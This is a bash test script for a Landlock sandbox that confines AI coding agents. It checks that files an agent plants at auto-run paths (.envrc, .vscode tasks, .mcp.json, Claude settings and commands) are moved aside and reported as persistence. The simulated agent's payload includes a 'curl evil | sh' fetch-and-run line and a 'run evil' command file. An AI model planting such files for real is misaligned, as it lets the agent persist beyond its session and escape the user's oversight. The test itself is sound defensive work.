#!/usr/bin/env bash
# Code planted for later under Landlock (src/backend/planted.h): protected
# names that do not exist when the session starts (.envrc, .vscode, .mcp.json,
# .claude/settings.local.json, .claude/commands) cannot be refused there, so
# what the agent makes at them is moved aside to NAME.agentlock-planted when
# the session ends, as the user, said on stderr and in the summary. As root
# (with the observer) and as the user; --rw lifts one; a session that plants
# nothing says nothing.
#   tests/host/planted.sh BUILD_DIR        (as root)
set -uo pipefail
bin=$(cd "$1" && pwd)/agentlock
pass=0 fail=0
ok() { pass=$((pass + 1)); echo "ok - $1"; }
nok() { fail=$((fail + 1)); echo "not ok - $1: $2"; }

U=alplant
id "$U" >/dev/null 2>&1 || useradd -m -s /bin/bash "$U" || exit 1
H=$(getent passwd "$U" | cut -d: -f6)
P=$H/proj
out=$(mktemp -d /srv/al-planted.XXXXXX) # outside /tmp: the cell has its own
trap '[ -n "${KEEP:-}" ] || rm -rf "$out"' EXIT
chmod 755 "$out"
plant='echo "curl evil | sh" >.envrc; mkdir .vscode && echo "{\"tasks\":[]}" >.vscode/tasks.json
echo "{\"mcpServers\":{}}" >.mcp.json; mkdir -p .claude/commands && echo hook >.claude/settings.local.json
echo "run evil" >.claude/commands/x.md; echo work >notes.txt; echo planted-end'
names=(.envrc .vscode .mcp.json .claude/settings.local.json .claude/commands)
fresh() {
	rm -rf "$P"
	mkdir -p "$P"
	chown "$U:" "$P"
}
# moved WHERE.report: every name gone, each beside it as NAME.agentlock-planted
# owned by the user, listed in the summary.
moved() {
	local n bad=""
	for n in "${names[@]}"; do
		[ -e "$P/$n" ] && bad="$bad $n-still-there"
		[ "$(stat -c %U "$P/$n.agentlock-planted" 2>/dev/null)" = "$U" ] || bad="$bad $n-not-aside"
		jq -e -s --arg p "$P/$n" --arg t "$P/$n.agentlock-planted" \
			'any(.[]; .type=="summary" and any(.planted[]; .path==$p and .moved_to==$t))' "$1" >/dev/null ||
			bad="$bad $n-not-in-summary"
	done
	echo "$bad"
}

fresh
(cd "$P" && "$bin" --headless --user "$U" --report "$out/root.report" --log "$out/root.log" "$P" -- sh -c "$plant" >"$out/root.out" 2>"$out/root.err")
rc=$?
bad=$(moved "$out/root.report")
if [ $rc -eq 0 ] && grep -q planted-end "$out/root.out" && [ -z "$bad" ] && [ "$(cat "$P/notes.txt")" = work ] &&
	grep -q "^agentlock: moved aside what the agent made at protected paths.*$P/.envrc -> $P/.envrc.agentlock-planted" "$out/root.err"; then
	ok "as root: the five planted names are moved aside at the end, said and in the summary; other work stays"
else
	nok "as root: planted names moved aside" "rc $rc, $bad; $(grep -v '^{' "$out/root.err" | head -c 400)"
fi
n=$(jq -s '[.[] | select(.class=="persistence")] | length' "$out/root.log")
[ "${n:-0}" -ge 1 ] && ok "as root with --log: the observer showed the planting as persistence ($n events)" ||
	nok "as root: persistence events" "$n"

fresh
printf '%s\n' "$plant" >"$out/plant.sh"
chmod 644 "$out/plant.sh"
cp "$out/plant.sh" "$P/plant.sh" # inside the cell, where the agent may read it
(cd "$P" && su "$U" -s /bin/sh -c "'$bin' --headless --report '$H/user.report' '$P' -- sh '$P/plant.sh'" >"$out/user.out" 2>"$out/user.err")
rc=$?
cp "$H/user.report" "$out/user.report" 2>/dev/null
bad=$(moved "$out/user.report")
if [ $rc -eq 0 ] && grep -q planted-end "$out/user.out" && [ -z "$bad" ]; then
	ok "as the user (no root, no observer): the planted names are moved aside all the same"
else
	nok "as the user" "rc $rc, $bad; $(head -c 400 "$out/user.err")"
fi

# Again: the names aside are taken, so the next ones are .2.
(cd "$P" && "$bin" --headless --user "$U" --report "$out/again.report" "$P" -- sh -c 'echo again >.envrc' >/dev/null 2>"$out/again.err")
if [ "$(cat "$P/.envrc.agentlock-planted.2" 2>/dev/null)" = again ] && [ "$(cat "$P/.envrc.agentlock-planted")" = 'curl evil | sh' ] &&
	[ ! -e "$P/.envrc" ]; then
	ok "a name already aside is never replaced: the next goes to .agentlock-planted.2"
else
	nok "a second planting" "$(ls -a "$P" | tr '\n' ' ')"
fi

fresh
(cd "$P" && "$bin" --headless --user "$U" --rw "$P/.envrc" --report "$out/lift.report" "$P" -- sh -c 'echo "export A=1" >.envrc; echo x >.mcp.json' >/dev/null 2>"$out/lift.err")
if [ "$(cat "$P/.envrc" 2>/dev/null)" = "export A=1" ] && [ ! -e "$P/.envrc.agentlock-planted" ] &&
	[ ! -e "$P/.mcp.json" ] && [ -e "$P/.mcp.json.agentlock-planted" ]; then
	ok "--rw .envrc lifts that one: it stays; .mcp.json is still moved aside"
else
	nok "--rw lifts" "$(ls -a "$P" | tr '\n' ' ')"
fi

fresh
(cd "$P" && "$bin" --headless --user "$U" --report "$out/none.report" "$P" -- sh -c 'echo work >notes.txt; mkdir src; echo x >src/a.c' >/dev/null 2>"$out/none.err")
if ! grep -q "moved aside" "$out/none.err" && [ "$(jq -s '[.[] | select(.type=="summary" and has("planted"))] | length' "$out/none.report")" = 0 ] &&
	[ "$(ls -A "$P" | tr '\n' ' ')" = "notes.txt src " ]; then
	ok "a session that plants nothing: nothing moved, nothing said, no planted key"
else
	nok "a session that plants nothing" "$(grep -v '^{' "$out/none.err") $(ls -A "$P" | tr '\n' ' ')"
fi

echo "$pass passed, $fail failed"
[ "$fail" -eq 0 ]
